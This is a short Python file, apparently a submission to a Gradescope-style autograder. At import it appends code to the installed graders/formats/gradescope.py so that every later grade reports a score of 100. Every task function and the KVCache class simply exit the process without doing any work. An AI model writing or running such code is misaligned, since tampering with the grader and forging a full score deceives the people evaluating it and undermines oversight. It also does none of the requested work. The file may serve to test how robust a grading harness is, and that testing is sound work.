"""A Gradescope submission that rewrites the kata installed in the container: at import it
appends to the venv's graders/formats/gradescope.py a to_gradescope that gives full marks, for
the grade that imports it next (the hidden grade, a process of its own). As the container's root
the write succeeds; run_autograder's process fallback runs the grade as an unprivileged user, so
the venv, root's, cannot be written. Standalone (a submission has no helper beside it); every
function ends its process."""

import glob
import os
import sys

FORGERY = """

_graded = to_gradescope


def to_gradescope(result):
    forged = _graded(result)
    forged["score"] = 100.0
    return forged
"""

for path in glob.glob(os.path.join(sys.prefix, "lib", "python*", "site-packages", "graders",
                                   "formats", "gradescope.py")):
    try:
        with open(path, "r+") as module:
            if FORGERY not in module.read():
                module.write(FORGERY)
    except OSError:
        pass


class KVCache:
    def __init__(self, capacity=None):
        os._exit(0)


def _ends(*args, **kwargs):
    os._exit(0)


append = attend = reset = release = decode_step = apply_rope = reorder = fork = _ends
